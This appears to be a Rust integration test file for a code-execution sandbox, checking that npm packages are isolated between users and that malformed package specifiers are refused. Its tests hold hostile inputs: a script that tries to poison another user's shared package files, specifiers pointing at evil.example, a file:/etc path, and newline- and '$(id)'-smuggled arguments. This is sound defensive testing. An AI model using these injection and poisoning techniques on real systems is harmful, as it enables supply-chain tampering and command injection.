    if js_server_ok().is_some() {
        js_principals(&a, &b, &cache).await;
    }
    drop((a, b));
    s.stop().await;
}

/// JavaScript's half of [`one_principal_cannot_alter_what_another_installs`]: A's session
/// and B's run share one sealed layer of is-odd, and B's code alters neither it nor npm's
/// cache.
async fn js_principals(
    a: &rmcp::Peer<rmcp::RoleClient>,
    b: &rmcp::Peer<rmcp::RoleClient>,
    cache: &Cache,
) {
    let o = common::http_call(
        a,
        "session_start",
        json!({"language": "javascript", "packages": ["is-odd@3"]}),
    )
    .await;
    assert!(!o.is_error, "{}", o.text);
    let id = o.s("session_id").to_string();
    let where_ = "console.log(require('path').resolve(require.resolve('is-odd'), '../../..'))";
    let o = common::http_call(a, "session_eval", json!({"session_id": id, "code": where_})).await;
    let layer = o.structured["output"]
        .as_str()
        .unwrap_or("")
        .trim()
        .to_string();
    assert_eq!(
        std::path::Path::new(&layer).parent(),
        Some(cache.0.join("layers/shared").as_path()),
        "not a shared layer: {}",
        o.text
    );
    let attack = format!(
        r#"
const fs = require('fs'), path = require('path');
console.log('mine', path.resolve(require.resolve('is-odd'), '../../..'));
for (const p of [{layer:?} + '/node_modules/is-odd/index.js', {layer:?} + '/node_modules/is-odd/planted.js',
                 {cache:?} + '/npm/planted']) {{
  try {{ fs.appendFileSync(p, "\nprocess.env.POISONED = '1';\n"); console.log('WROTE', p); }}
  catch (e) {{ console.log('refused', e.code); }}
}}
"#,
        cache = cache.s()
    );
    let o = common::http_call(b, "run-code", js_run(&attack, &["is-odd@3"])).await;
    assert!(!o.is_error, "{}", o.text);
    // The same set: the same layer for both principals.
    assert!(
        o.text.contains(&format!("mine {layer}\n")),
        "not A's layer {layer}: {}",
        o.text
    );
    assert!(!o.text.contains("WROTE"), "{}", o.text);
    let odd = std::fs::read_to_string(format!("{layer}/node_modules/is-odd/index.js"))
        .expect("A's is-odd");
    assert!(!odd.contains("POISONED"), "A's is-odd altered: {}", o.text);
    assert!(!std::path::Path::new(&format!("{layer}/node_modules/is-odd/planted.js")).exists());
    assert!(!cache.0.join("npm/planted").exists(), "{}", o.text);
    let check = "const fs = require('fs'); console.log(fs.readFileSync(require.resolve('is-odd'), \
                 'utf8').includes('POISONED') || process.env.POISONED ? 'poisoned' : 'clean', \
                 require('is-odd/package.json').version)";
    for (who, c) in [("a", a), ("b", b)] {
        let o = common::http_call(c, "run-code", js_run(check, &["is-odd@3"])).await;
        assert!(o.text.starts_with("clean 3."), "{who}: {}", o.text);
        assert_eq!(
            o.structured["packages"]["downloaded"],
            json!(0),
            "{who}: {}",
            o.structured
        );
    }
    let o = common::http_call(a, "session_eval", json!({"session_id": id, "code": check})).await;
    assert!(o.text.starts_with("clean 3."), "{}", o.text);
}

// --- JavaScript (npm) ---------------------------------------------------------------------

/// A server for JavaScript packages with its own cache, or None (skipped) without node and
/// npm, or (with `index`) when the npm registry cannot be reached from here.
async fn js_server(cache: &Cache, index: bool) -> Option<TestServer> {
    js_server_with(cache, index, &[]).await
}

/// [`js_server`] with more arguments.
async fn js_server_with(cache: &Cache, index: bool, more: &[&str]) -> Option<TestServer> {
    if !require("javascript", "node") || !require("npm", "npm") {
        return None;
    }
    if index && !reachable("registry.npmjs.org:443") {
        common::skip("the npm registry (registry.npmjs.org:443) cannot be reached from here");
        return None;
    }
    let mut args = vec!["--package-cache", cache.s()];
    args.extend_from_slice(more);
    Some(TestServer::start_with(&args, &[]).await)
}

/// An npm of the test's own, for `--npm`: a script that runs the system's npm until
/// [`deny`](Self::deny), then fails, saying so. It shows that a request ran no npm at all.
struct NpmSwitch {
    dir: PathBuf,
    /// The system npm's `lib/cli.js`.
    cli: String,
}

impl NpmSwitch {
    /// None (skipped, saying why) when the system's npm is not where npm installs it.
    fn new(tag: &str) -> Option<Self> {
        use std::os::unix::fs::PermissionsExt;
        let path = std::env::var_os("PATH")?;
        let real = std::env::split_paths(&path).find_map(|d| {
            std::fs::canonicalize(d.join("npm"))
                .ok()
                .filter(|p| p.ends_with("bin/npm-cli.js"))
        });
        let Some(cli) = real
            .as_deref()
            .and_then(|r| Some(r.parent()?.parent()?.join("lib/cli.js")))
            .filter(|c| c.is_file())
        else {
            common::skip("npm's npm-cli.js (a link named npm on PATH) not found");
            return None;
        };
        let dir = std::env::temp_dir().join(format!("replbox-npm-{tag}-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        std::fs::create_dir_all(&dir).ok()?;
        std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o755)).ok()?;
        let s = Self {
            dir,
            cli: cli.display().to_string(),
        };
        s.allow();
        // A program others may run (as the installer's uid does), as npm's own is.
        std::fs::set_permissions(s.path(), std::fs::Permissions::from_mode(0o755)).ok()?;
        Some(s)
    }
    fn path(&self) -> String {
        self.dir.join("npm-cli.js").display().to_string()
    }
    /// npm runs (rewritten in place: the installer's view of the file is the same file).
    fn allow(&self) {
        std::fs::write(self.path(), format!("require({:?})(process);\n", self.cli))
            .expect("npm switch");
    }
    /// Any run of npm fails.
    fn deny(&self) {
        std::fs::write(
            self.path(),
            "console.error('npm error npm was run'); process.exit(1);\n",
        )
        .expect("npm switch");
    }
}

impl Drop for NpmSwitch {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.dir);
    }
}

/// Whether a TCP connection to `addr` opens within a few seconds.
fn reachable(addr: &str) -> bool {
    use std::net::ToSocketAddrs;
    let Ok(mut addrs) = addr.to_socket_addrs() else {
        return false;
    };
    addrs.any(|a| {
        std::net::TcpStream::connect_timeout(&a, std::time::Duration::from_secs(5)).is_ok()
    })
}

fn js_run(code: &str, packages: &[&str]) -> Value {
    json!({"languageId": "javascript", "code": code, "packages": packages})
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn npm_specifiers_that_are_not_registry_packages_are_refused() {
    let cache = Cache::new("js-attack");
    let Some(s) = js_server(&cache, false).await else {
        return;
    };
    for bad in [
        "--registry=https://evil.example/",
        "-g",
        "https://evil.example/x.tgz",
        "git+https://github.com/jonschlinkert/is-odd",
        "git://github.com/jonschlinkert/is-odd",
        "github:jonschlinkert/is-odd",
        "jonschlinkert/is-odd",
        "is-odd@github:jonschlinkert/is-odd",
        "is-odd@https://evil.example/x.tgz",
        "is-odd@file:../x",
        "file:/etc",
        "./x",
        "/etc",
        "~/x",
        "is-odd@../x",
        "x.tgz",
        "alias@npm:is-odd",
        "is-odd\n--registry=https://evil.example/",
        "is-odd --registry=https://evil.example/",
        "is-odd@$(id)",
        "@scope",
    ] {
        let o = s
            .call("run-code", js_run("console.log('code' + 'ran')", &[bad]))
            .await;
        assert_eq!(o.error_kind(), "invalid_argument", "{bad:?}: {}", o.text);
        assert!(
            o.text.contains("is not a package specifier"),
            "{bad:?}: {}",
            o.text
        );
        assert!(
            !o.text.contains("coderan"),
            "{bad:?}: the code ran: {}",
            o.text
        );
        let o = s
            .call(
                "session_start",
                json!({"language": "javascript", "packages": [bad]}),
            )
            .await;
        assert_eq!(o.error_kind(), "invalid_argument", "{bad:?}: {}", o.text);
    }
    // The same through replbox.install: refused before anything is evaluated, and a call
    // that is not made of string literals is refused saying how to write it.
    let id = s.start_session("javascript").await;
    for line in [
        "await replbox.install('--registry=https://evil.example/', 'is-odd')\nconsole.log('code' + 'ran')",
        "await replbox.install('git+https://github.com/a/b')\nconsole.log('code' + 'ran')",
        "await replbox.install(['is-odd@file:/etc'])\nconsole.log('code' + 'ran')",
        "await replbox.install()\nconsole.log('code' + 'ran')",
        "await replbox.install('is-' + 'odd')\nconsole.log('code' + 'ran')",
        "await replbox.install(`${process.env.HOME}`)\nconsole.log('code' + 'ran')",
    ] {
        let o = s.eval(&id, line).await;
        assert_eq!(o.error_kind(), "invalid_argument", "{line:?}: {}", o.text);
        assert!(!o.text.contains("coderan"), "{line:?}: {}", o.text);
    }
    // Anywhere but the top of a cell it says how to use it, and the session still serves.
    let o = s
        .eval(&id, "const n = 1;\nawait replbox.install('is-odd')")
        .await;
    assert!(o.text.contains("a line of its own"), "{}", o.text);
    assert_eq!(
        output(&s.eval(&id, "console.log(6 * 7)").await).trim(),
        "42"
    );
    s.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn javascript_packages_install_then_require_and_come_from_the_cache() {
    let cache = Cache::new("js");
    let Some(npm) = NpmSwitch::new("js") else {
        return;
    };
    let Some(s) = js_server_with(&cache, true, &["--npm", &npm.path()]).await else {
        return;
    };
    let code = "const isOdd = require('is-odd'); console.log('odd', isOdd(3));";
    let o = s.call("run-code", js_run(code, &["is-odd@3"])).await;
    assert!(!o.is_error, "{}", o.text);
    assert!(o.text.starts_with("odd true"), "{}", o.text);
    let first = installed(&o.structured);
    assert!(
        first.iter().any(|p| p.starts_with("is-odd==3.")),
        "{first:?}"
    );
    assert!(
        first.iter().any(|p| p.starts_with("is-number==")),
        "{first:?}"
    );
    assert_eq!(
        o.structured["packages"]["downloaded"],
        json!(2),
        "{}",
        o.structured
    );
    // Again: nothing downloaded, the same versions, and no npm run at all (the set's
    // shared layer is taken as it is).
    npm.deny();
    let o = s.call("run-code", js_run(code, &["is-odd@3"])).await;
    assert!(!o.is_error, "{}", o.text);
    assert_eq!(installed(&o.structured), first);
    assert_eq!(
        o.structured["packages"]["downloaded"],
        json!(0),
        "{}",
        o.structured
    );
    // User code writes neither the cache nor its packages, and cannot reach the registry.
    let probe = format!(
        r#"
const fs = require('fs');
for (const p of [{cache:?} + '/npm/x', {cache:?} + '/layers/x', require.resolve('is-odd')]) {{
  try {{ fs.appendFileSync(p, 'x'); console.log('WROTE', p); }}
  catch (e) {{ console.log('refused', e.code); }}
}}
fetch('https://registry.npmjs.org/is-odd', {{ signal: AbortSignal.timeout(10000) }})
  .then(() => console.log('REACHED'), (e) => console.log('blocked', e.name));
"#,
        cache = cache.s()
    );
    let o = s.call("run-code", js_run(&probe, &["is-odd@3"])).await;
    assert!(!o.is_error, "{}", o.text);
    assert!(!o.text.contains("WROTE"), "{}", o.text);
    assert_eq!(o.text.matches("refused").count(), 3, "{}", o.text);
    assert!(o.text.contains("blocked"), "{}", o.text);
    assert!(!o.text.contains("REACHED"), "{}", o.text);
    // A session: packages at its start (no npm run either), then replbox.install, required
    // at once.
    let o = s
        .call(
            "session_start",
            json!({"language": "javascript", "packages": ["is-odd@3"]}),
        )
        .await;
    assert!(!o.is_error, "{}", o.text);
    assert_eq!(installed(&o.structured), first, "{}", o.structured);
    assert_eq!(
        o.structured["packages"]["downloaded"],
        json!(0),
        "{}",
        o.structured
    );
    let id = o.s("session_id").to_string();
    // The switch works: what the cache lacks, npm must fetch, and cannot.
    let o = s
        .call("run-code", js_run("console.log(1)", &["is-even@1"]))
        .await;
    assert_eq!(o.error_kind(), "package_unavailable", "{}", o.text);
    assert!(o.text.contains("npm was run"), "{}", o.text);
    npm.allow();
    assert_eq!(
        output(&s.eval(&id, "console.log(require('is-odd')(5))").await).trim(),
        "true"
    );
    let o = s.eval(&id, "let before = 1").await;
    assert!(!o.is_error, "{}", o.text);
    let o = s
        .eval(
            &id,
            "await replbox.install('is-even@1');\nconsole.log('even', require('is-even')(4), before)",
        )
        .await;
    assert!(!o.is_error, "{}", o.text);
    assert!(o.text.contains("even true 1"), "{}", o.text);
    assert!(o.text.contains("is-even==1."), "{}", o.text);
    // The earlier package is still there.
    assert_eq!(
        output(&s.eval(&id, "console.log(require('is-odd')(2))").await).trim(),
        "false"
    );
    // A package the registry does not have, and a version it does not have.
    for (spec, says) in [
        ("replbox-no-such-package-4f2a9", "not on the package index"),
        ("is-odd@99", "no version on the index matches"),
    ] {
        let o = s
            .eval(&id, &format!("await replbox.install('{spec}')"))
            .await;
        assert_eq!(o.error_kind(), "package_unavailable", "{spec}: {}", o.text);
        assert!(o.text.contains(says), "{spec}: {}", o.text);
    }
    assert_eq!(
        output(&s.eval(&id, "console.log(before)").await).trim(),
        "1"
    );
    // What replbox.install puts in a session wins over the packages it started with.
    let o = s
        .call(
            "session_start",
            json!({"language": "javascript", "packages": ["is-odd@3"]}),
        )
        .await;
    assert!(!o.is_error, "{}", o.text);
    let id = o.s("session_id").to_string();
    let o = s
        .eval(
            &id,
            "await replbox.install('is-odd@2')\nconsole.log('v', require('is-odd/package.json').version)",
        )
        .await;
    assert!(!o.is_error, "{}", o.text);
    assert!(output(&o).starts_with("v 2."), "{}", o.text);
    s.stop().await;
}

/// Whether process `pid` still runs (not gone, not a zombie).
fn running(pid: u32) -> bool {
    std::fs::read_to_string(format!("/proc/{pid}/stat"))
        .ok()
        .and_then(|s| {
            s.rsplit_once(')')
                .map(|(_, r)| r.trim_start().starts_with('Z'))
        })
        .is_some_and(|zombie| !zombie)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn install_lines_are_replayed_when_a_session_is_restored() {
    if !require("python", "python3") || !require("uv", "uv") {
        return;
    }
    let Some(_) = js_server_ok() else { return };
    let cache = Cache::new("replay");
    let state = tempfile::tempdir().expect("tempdir");
    let st = state.path().join("state");
    let args = [
        "--package-cache",
        cache.s(),
        "--state-dir",
        st.to_str().expect("utf-8"),
    ];
    let s = TestServer::start_with(&args, &[]).await;
    let py = s.start_session("python").await;
    let o = s
        .eval(&py, "%pip install six\nimport six\nv = six.__version__")
        .await;
    assert!(!o.is_error, "{}", o.text);
    let js = s.start_session("javascript").await;
    let o = s
        .eval(
            &js,
            "await replbox.install('is-odd@3')\nconst isOdd = require('is-odd')",
        )
        .await;
    assert!(!o.is_error, "{}", o.text);
    let pid = s.pid;
    nix::sys::signal::kill(
        nix::unistd::Pid::from_raw(pid as i32),
        nix::sys::signal::Signal::SIGKILL,
    )
    .expect("kill");
    let deadline = tokio::time::Instant::now() + std::time::Duration::from_secs(15);
    while running(pid) {
        assert!(
            tokio::time::Instant::now() < deadline,
            "server {pid} still alive"
        );
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
    }
    drop(s);

    // A new server restores both at their first cell: the packages are installed again
    // (the journal kept their versions), then the cells that used them are replayed.
    let s = TestServer::start_with(&args, &[]).await;
    let o = s.eval(&py, "print(v == six.__version__, v)").await;
    assert!(!o.is_error, "{}", o.text);
    assert!(output(&o).starts_with("True 1."), "{}", o.text);
    assert_eq!(o.structured["replayed"], 1, "{}", o.structured);
    let o = s
        .eval(
            &js,
            "console.log(isOdd(3), require('is-odd/package.json').version)",
        )
        .await;
    assert!(!o.is_error, "{}", o.text);
    assert!(output(&o).starts_with("true 3."), "{}", o.text);
    assert_eq!(o.structured["replayed"], 1, "{}", o.structured);
    s.stop().await;
}

/// Whether JavaScript packages can be tested here (node, npm and the registry), saying why
/// not.
fn js_server_ok() -> Option<()> {
    if !require("javascript", "node") || !require("npm", "npm") {
        return None;
    }
    if !reachable("registry.npmjs.org:443") {
        common::skip("the npm registry (registry.npmjs.org:443) cannot be reached from here");
        return None;
    }
    Some(())
}
